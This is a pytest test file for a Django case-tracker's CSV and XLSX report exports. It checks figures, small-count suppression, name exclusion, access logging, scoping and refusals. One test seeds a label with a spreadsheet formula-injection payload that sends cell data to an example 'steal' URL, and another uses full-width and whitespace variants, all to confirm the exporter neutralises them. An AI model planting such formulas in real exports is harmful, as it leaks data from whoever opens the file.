"""Report files: CSV and XLSX downloads open, say what they are, carry the page's figures,
suppress small counts for publication, neutralise formulas, name no one, are on the
access log, are scoped, and refuse who may not read them.
"""

import csv
import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from casetracker.accounts.models import User
from casetracker.audit.models import AccessLog
from casetracker.core.models import Office, School
from casetracker.reports.definitions import REPORT_LIST, REPORTS_BY_NAME
from casetracker.reports.reporting import run_report
from casetracker.reports.suppression import HIDDEN, SMALL, publishable
from tests.factories import (
    ChannelFactory,
    HeardCommitteeCaseFactory,
    IncidentFactory,
    MeasureFactory,
    OffenderFactory,
    UserFactory,
    VictimFactory,
)

REPORT_NAMES = [report.name for report in REPORT_LIST]
TABLE_A = {"date_from": "2022-01-01", "date_to": "2024-08-31"}
FORMATS = ["csv", "xlsx"]


pytestmark = pytest.mark.usefixtures("shipped_data", "db")


@pytest.fixture
def supervisor(db):
    return UserFactory(supervisor=True, office=None)


@pytest.fixture
def national(client, supervisor):
    client.force_login(supervisor)
    return client


@pytest.fixture
def seoul_clerk(client):
    clerk = UserFactory(office=Office.objects.get(code="seoul"))
    client.force_login(clerk)
    return client


def download(client, name, fmt="csv", params=None, status=200):
    response = client.get(reverse(f"reports:{fmt}", args=[name]), params or {})
    assert response.status_code == status, response.content[:500]
    return response


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "a BOM, so that Excel reads the file as UTF-8"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def xlsx_sheets(response) -> list[list[tuple]]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(sheet.iter_rows(values_only=True)) for sheet in workbook.worksheets]


def tables_in(rows: list[list], spec, only=None) -> dict[str, list[list]]:
    """Each table's rows in a file (after its title and header), by table key."""
    found = {}
    for table in [only] if only else spec.tables:
        header = [str(table.dimension.label), *(str(column.label) for column in table.columns)]
        start = next(n for n, row in enumerate(rows) if list(row[: len(header)]) == header)
        assert list(rows[start - 1][:1]) == [str(table.title)]
        body = []
        for row in rows[start + 1 :]:
            if not any(value not in (None, "") for value in row):
                break
            body.append(list(row[: len(header)]))
        found[table.key] = body
    return found


def page_tables(client, name, params):
    response = client.get(reverse("reports:detail", args=[name]), params)
    assert response.status_code == 200
    return {table.spec.key: table for table in response.context["tables"]}


def as_text(value) -> str:
    return "" if value is None else str(value)


# Every report, both formats ---------------------------------------------------------------------


@pytest.mark.parametrize("name", REPORT_NAMES)
def test_csv_carries_title_unit_filters_and_the_pages_figures(national, name):
    spec = REPORTS_BY_NAME[name]
    response = download(national, name, "csv", TABLE_A)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="casetracker-{name}-{today}.csv"'
    rows = csv_rows(response)
    assert rows[0][1] == str(spec.title)
    assert rows[1][1] == str(spec.unit)
    assert any("2022-01-01" in cell for cell in rows[2][1:]) and any("2024-08-31" in cell for cell in rows[2][1:])
    assert rows[3][1] == today
    assert rows[4][1] in ("no", "아니요", "아니오")
    page = page_tables(national, name, TABLE_A)
    for key, body in tables_in(rows, spec).items():
        table = page[key]
        assert body == [
            [row.label, *(as_text(row.cells[column.key]) for column in table.spec.columns)] for row in table.rows
        ]


@pytest.mark.parametrize("name", REPORT_NAMES)
def test_xlsx_has_a_sheet_per_table_with_numbers_as_numbers(national, name):
    spec = REPORTS_BY_NAME[name]
    response = download(national, name, "xlsx", TABLE_A)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert re.fullmatch(
        rf'attachment; filename="casetracker-{name}-\d{{4}}-\d{{2}}-\d{{2}}\.xlsx"', response["Content-Disposition"]
    )
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert len(workbook.worksheets) == len(spec.tables)
    page = page_tables(national, name, TABLE_A)
    for sheet, table_spec in zip(workbook.worksheets, spec.tables, strict=True):
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0][:2] == (rows[0][0], str(spec.title))
        assert rows[1][1] == str(spec.unit)
        assert "2022-01-01" in " ".join(map(as_text, rows[2]))
        header_row = next(row for row in sheet.iter_rows() if row[0].value == str(table_spec.dimension.label))
        assert all(cell.font.bold for cell in header_row if cell.value is not None)
        table = page[table_spec.key]
        expected = [
            [row.label, *(_number(row.cells[column.key]) for column in table_spec.columns)] for row in table.rows
        ]
        actual = tables_in(rows, spec, table_spec)[table_spec.key]
        assert actual == expected
        assert [list(map(kind, row)) for row in actual] == [list(map(kind, row)) for row in expected]


def kind(value) -> str:
    """Text, a number (a whole share such as 20.0 comes back from the file as an int) or nothing."""
    return "number" if isinstance(value, int | float) else type(value).__name__


def _number(value):
    """What a cell holds in the workbook: shares as floats, nothing as an empty cell."""
    if isinstance(value, Decimal):
        return float(value)
    return None if value in (None, "") else value


def test_the_figures_of_table_a_in_the_file(national):
    body = tables_in(csv_rows(download(national, "offices", "csv", TABLE_A)), REPORTS_BY_NAME["offices"])["main"]
    seoul, gyeonggi, total = body[0], body[8], body[-1]
    assert seoul[1:] == ["89", "50", "31", "8", "0", "9.0"]
    assert (gyeonggi[1], gyeonggi[4], gyeonggi[6]) == ("181", "21", "11.6")
    assert total[1:] == ["629", "347", "183", "99", "2", "15.7"]


def test_files_are_in_the_users_language(client, supervisor):
    client.force_login(supervisor)
    response = client.get(reverse("reports:csv", args=["offices"]), TABLE_A, HTTP_ACCEPT_LANGUAGE="en")
    rows = csv_rows(response)
    assert rows[0] == ["report", "Measures by office and severity"]
    assert rows[1] == ["unit", "measures"]
    assert rows[2] == ["filters", "reported from: 2022-01-01", "reported until: 2024-08-31"]
    assert rows[4] == ["small counts suppressed for publication", "no"]
    body = tables_in(rows, REPORTS_BY_NAME["offices"])["main"]
    assert (body[0][0], body[-1][0]) == ("Seoul", "total")


def test_a_file_without_filters_says_none(national):
    rows = csv_rows(national.get(reverse("reports:csv", args=["survey"]), HTTP_ACCEPT_LANGUAGE="en"))
    assert rows[2] == ["filters", "none"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_download_costs_the_same_queries_whatever_the_data(national, fmt):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            download(national, "offices", fmt, TABLE_A)
        return len(captured)

    first = queries()
    for number, office in enumerate(Office.objects.all()[:3]):
        case = HeardCommitteeCaseFactory(incident__office=office, incident__case_number=f"2024-{9900 + number}")
        MeasureFactory.create_batch(2, committee_case=case, number=8)
    assert queries() == first


# Publication -----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_publication_hides_small_counts(national, supervisor, fmt):
    params = {**TABLE_A, "office": "seoul", "publication": "1"}
    response = download(national, "measures", fmt, params)
    rows = csv_rows(response) if fmt == "csv" else xlsx_sheets(response)[0]
    assert rows[4][1] not in ("no", "아니요", "아니오")
    body = tables_in(rows, REPORTS_BY_NAME["measures"])["main"]
    counts = [row[2] for row in body]
    assert SMALL in counts
    assert not [count for count in counts if count in (1, 2, 3, 4, "1", "2", "3", "4")]
    # Exactly the cells suppression.publishable hides.
    result = run_report(REPORTS_BY_NAME["measures"], supervisor, {**TABLE_A, "office": "seoul"})
    expected = publishable(result.tables[0])
    assert counts == [row.cells["count"] if fmt == "xlsx" else str(row.cells["count"]) for row in expected.rows]
    assert HIDDEN in [row[3] for row in body]  # a share of a hidden count


def test_without_publication_small_counts_are_shown(national):
    body = tables_in(
        csv_rows(download(national, "measures", "csv", {**TABLE_A, "office": "seoul"})), REPORTS_BY_NAME["measures"]
    )["main"]
    assert SMALL not in [row[2] for row in body]


# Safety ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_formula_like_labels_are_neutralised(national, fmt):
    formula = '=HYPERLINK("http://example.com/steal?x="&A1,"click")'
    ChannelFactory(code="evil", name_ko=formula, name_en=formula, sort_order=99)
    response = download(national, "channels", fmt, TABLE_A)
    rows = csv_rows(response) if fmt == "csv" else xlsx_sheets(response)[0]
    labels = [row[0] for row in rows if row]
    assert "'" + formula in labels
    assert formula not in labels
    if fmt == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        assert all(cell.data_type != "f" for row in workbook.worksheets[0].iter_rows() for cell in row)


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_name_of_a_person_in_any_file(national, fmt):
    school = School.objects.filter(office__code="seoul", level="high").first()
    incident = IncidentFactory(
        office=school.office, school=school, case_number="2024-9901", report_date=datetime.date(2024, 5, 10)
    )
    VictimFactory(incident=incident, name="김비밀피해자")
    OffenderFactory(incident=incident, name="이비밀가해자")
    for name in REPORT_NAMES:
        response = download(national, name, fmt, TABLE_A)
        content = response.content.decode() if fmt == "csv" else repr(xlsx_sheets(response))
        assert "김비밀피해자" not in content
        assert "이비밀가해자" not in content


# The access log, caching, scope and refusals ------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_download_is_on_the_access_log(national, supervisor, fmt):
    download(national, "offices", fmt, {**TABLE_A, "publication": "1"})
    entry = AccessLog.objects.get(action=AccessLog.Action.EXPORT, user=supervisor)
    assert "offices" in entry.detail and fmt in entry.detail
    assert "date_from=2022-01-01" in entry.detail and "date_to=2024-08-31" in entry.detail
    assert "publication: yes" in entry.detail


def test_downloads_are_not_cached(national):
    response = download(national, "offices", "csv", TABLE_A)
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_seoul_clerk_gets_only_seoul(seoul_clerk, fmt):
    response = download(seoul_clerk, "offices", fmt, TABLE_A)
    rows = csv_rows(response) if fmt == "csv" else xlsx_sheets(response)[0]
    body = tables_in(rows, REPORTS_BY_NAME["offices"])["main"]
    seoul = Office.objects.get(code="seoul")
    assert [row[0] for row in body[:-1]] == [seoul.name]
    assert [as_text(value) for value in body[-1][1:5]] == ["89", "50", "31", "8"]


def test_a_seoul_clerk_cannot_ask_for_another_office(seoul_clerk):
    response = download(seoul_clerk, "offices", "csv", {"office": "busan"}, status=400)
    assert response["Content-Type"].startswith("text/plain")


def test_admins_are_refused(client):
    client.force_login(UserFactory(role=User.Role.ADMIN, office=None))
    download(client, "offices", "csv", status=403)
    download(client, "offices", "xlsx", status=403)
    assert not AccessLog.objects.filter(action=AccessLog.Action.EXPORT).exists()


@pytest.mark.parametrize("fmt", FORMATS)
def test_anonymous_visitors_are_sent_to_log_in(client, fmt):
    response = download(client, "offices", fmt, status=302)
    assert response["Location"].startswith(reverse("admin:login"))


@pytest.mark.parametrize("fmt", FORMATS)
def test_unknown_report(national, fmt):
    download(national, "casualties", fmt, status=404)


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"date_from": "yesterday"}, "date_from"),
        ({"date_to": "2024-02-30"}, "date_to"),
        ({"date_from": "2024-08-31", "date_to": "2024-01-01"}, "date_to"),
        ({"office": "atlantis"}, "office"),
        ({"school_level": "university"}, "school_level"),
        ({"committee_kind": "parliament"}, "committee_kind"),
    ],
)
@pytest.mark.parametrize("fmt", FORMATS)
def test_bad_filters_are_a_400_in_plain_text(national, params, field, fmt):
    response = download(national, "offices", fmt, params, status=400)
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert f"({field})" in response.content.decode()
    assert not AccessLog.objects.filter(action=AccessLog.Action.EXPORT).exists()


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("label", ["\uff1d1+1", " =1+1", "\n=1+1", "\uff20SUM(A1)"])
def test_full_width_signs_and_leading_space_are_neutralised_too(national, fmt, label):
    # Issue 16, finding 9: these escaped the neutraliser.
    ChannelFactory(code="evil", name_ko=label, name_en=label, sort_order=99)
    rows = csv_rows(download(national, "channels", fmt, TABLE_A)) if fmt == "csv" else None
    if fmt == "xlsx":
        rows = xlsx_sheets(download(national, "channels", fmt, TABLE_A))[0]
    labels = [row[0] for row in rows if row]
    assert "'" + label in labels and label not in labels


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_control_character_in_a_label_is_taken_out_of_both_files(national, fmt):
    ChannelFactory(code="odd", name_ko="이상한\x0b채널\x01", name_en="Odd\x0bchannel\x01", sort_order=99)
    response = download(national, "channels", fmt, TABLE_A)
    rows = csv_rows(response) if fmt == "csv" else xlsx_sheets(response)[0]
    labels = [row[0] for row in rows if row]
    assert "이상한채널" in labels or "Oddchannel" in labels
